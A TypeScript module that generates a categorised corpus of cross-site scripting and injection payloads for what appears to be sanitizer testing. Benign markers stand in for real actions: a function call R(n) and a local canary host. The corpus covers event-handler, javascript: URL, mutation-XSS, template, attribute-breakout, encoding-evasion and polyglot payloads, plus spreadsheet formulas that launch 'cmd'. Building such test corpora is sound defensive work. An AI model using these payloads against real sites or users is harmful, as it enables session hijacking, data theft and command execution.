/** Calls `R(n)` where a browser runs it, or loads `canary/n` where a browser only loads. */
type Make = (n: number, canary: string) => string

/** `open`: swallows what comes after it, so it stands last where several stand together. */
export type Payload = { n: number; kind: string; text: string; open: boolean }

const base64 = (text: string) => Buffer.from(text).toString('base64')

/** By what they try. A canary is `//127.0.0.1:40321`. */
const kinds: Record<string, Make[]> = {
  'a script': [
    (n) => `<script>R(${n})</script>`,
    (n) => `<ScRiPt\t\n>R(${n})</sCrIpT\n>`,
    (n) => `<scr<script>ipt>R(${n})</script>`,
    (n, canary) => `<script src=${canary}/${n}></script>`,
  ],
  'an image': [
    (n) => `<img src=x onerror=R(${n})>`,
    (n) => `"><img src=x onerror="R(${n})">`,
    (n) => `'><IMG SRC=x OnErRoR='R(${n})'>`,
    (n) => `<img/src=x/onerror=&#82;(${n})>`,
    (n, canary) => `<img src="${canary}/${n}">`,
  ],
  'a drawing or a formula': [
    (n) => `<svg onload=R(${n})>`,
    (n) => `<svg/onload='R(${n})'>`,
    (n) => `<svg><script>R(${n})</script></svg>`,
    (n) => `<svg><script href="data:,R(${n})"/></svg>`,
    (n) => `<svg><animate onbegin=R(${n}) attributeName=x dur=1s></svg>`,
    (n) => `<svg><a xlink:href="javascript:R(${n})"><text y=9>x</text></a></svg>`,
    (n, canary) => `<svg><image href=${canary}/${n} /></svg>`,
    (n) => `<math href="javascript:R(${n})">x</math>`,
  ],
  'what changes when it is read twice': [
    (n) => `<math><mtext><style><img src=x onerror=R(${n})></style></mtext></math>`,
    (n) => `<noscript><p title="</noscript><img src=x onerror=R(${n})>">`,
    (n) => `<svg></p><style><a id="</style><img src=x onerror=R(${n})>">`,
    (n) => `<template><script>R(${n})</script></template><b is=x onfocus=R(${n})>`,
  ],
  'a frame or an object': [
    (n) => `<iframe srcdoc="<script>parent.R(${n})</script>"></iframe>`,
    (n) => `<iframe src="javascript:parent.R(${n})"></iframe>`,
    (n, canary) => `<iframe src=${canary}/${n}></iframe>`,
    (n) => `<object data="javascript:parent.R(${n})"></object>`,
    (n, canary) => `<embed src=${canary}/${n}>`,
  ],
  'an event': [
    (n) => `<body onload=R(${n}) onpageshow=R(${n})>`,
    (n) => `<input autofocus onfocus=R(${n})>`,
    (n) => `<x tabindex=0 autofocus onfocus=R(${n})>x</x>`,
    (n) => `<details open ontoggle=R(${n})><summary>x</summary></details>`,
    (n) => `<style>@keyframes x{}</style><b style=animation:x onanimationstart=R(${n})>`,
    (n) => `<video><source onerror=R(${n})></video>`,
    (n) => `<marquee onstart=R(${n})>x</marquee>`,
  ],
  'an address': [
    (n) => `<a href="javascript:R(${n})">x</a>`,
    (n) => `javascript:R(${n})`,
    (n) => `JaVa\tScRiPt:R(${n})`,
    (n) => `&#1;java&NewLine;script&colon;R(${n})`,
    (n) => `data:text/html,<script>top.R(${n})</script>`,
    (n) => `data:text/html;base64,${base64(`<script>top.R(${n})</script>`)}`,
    (n) => `vbscript:R(${n})`,
    (n) => `![x](javascript:R(${n}))`,
  ],
  'a template': [
    (n) => `{{constructor.constructor("R(${n})")()}}`,
    (n) => `\${R(${n})} #{R(${n})} <%= R(${n}) %>`,
    (n) => `__proto__[innerHTML]=<img src=x onerror=R(${n})>`,
    () => '<form id=R name=body><input name=querySelector></form>',
  ],
  'the end of what it stands in': [
    (n) => `</textarea><script>R(${n})</script>`,
    (n) => `</title><script>R(${n})</script>`,
    (n) => `</style></script><script>R(${n})</script>`,
    (n) => `"}]}</script><script>R(${n})</script>`,
    (n) => `--!><script>R(${n})</script>`,
    (n) => `]]><![CDATA[<script>R(${n})</script>]]>`,
    (n) => `" autofocus onfocus=R(${n}) x="`,
    (n) => `' autofocus onfocus='R(${n})`,
  ],
  'no end': [(n) => `<img src=x onerror=R(${n}) x="`, (n) => `<!-- <svg onload=R(${n})`],
  'a style or a place': [
    (n, canary) => `<style>*{background:url(${canary}/${n})}</style>`,
    (n, canary) => `<b style="background:url(${canary}/${n})">x</b>`,
    (n) => `<b style="width:expression(R(${n}))">x</b>`,
    (n, canary) => `<link rel=stylesheet href=${canary}/${n}>`,
    (n, canary) => `<meta http-equiv=refresh content="0;url=${canary}/${n}">`,
    (n, canary) => `<base href=${canary}/${n}/>`,
    (n) => `<form><button autofocus formaction="javascript:R(${n})">x</button></form>`,
  ],
  'another writing': [
    (n) => `\uff1cscript\uff1eR(${n})\uff1c/script\uff1e`,
    (n) => `+ADw-script+AD4-R(${n})+ADw-/script+AD4-`,
    (n) => `%3Cscript%3ER(${n})%3C/script%3E`,
    (n) => `&lt;script&gt;R(${n})&lt;/script&gt;`,
    (n) => `\\u003cimg src=x onerror=R(${n})\\u003e`,
    (n) => `\u202e<img src=x onerror=R(${n})>\u2067`,
    (n) => `x\r\nContent-Type: text/html\r\n\r\n<script>R(${n})</script>`,
    (n) => `x\u2028R(${n})\u2029<script>R(${n})</script>`,
  ],
  'a formula of a spreadsheet': [
    (n, canary) => `=HYPERLINK("http:${canary}/${n}","x")`,
    (n) => `@SUM(${n})*cmd|'/C calc'!A0`,
    (n) => `-${n}+cmd|'/C calc'!A0`,
  ],
  'many at once': [
    (n) =>
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=R(${n}) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=R(${n})//>`,
  ],
}

/** Texts that do harm where they are taken for more than text. */
export function payloadsFor(canary: string): Payload[] {
  const all = Object.entries(kinds).flatMap(([kind, makes]) => makes.map((make) => ({ kind, make })))
  return all.map(({ kind, make }, at) => ({ n: at + 1, kind, text: make(at + 1, canary), open: kind === 'no end' }))
}
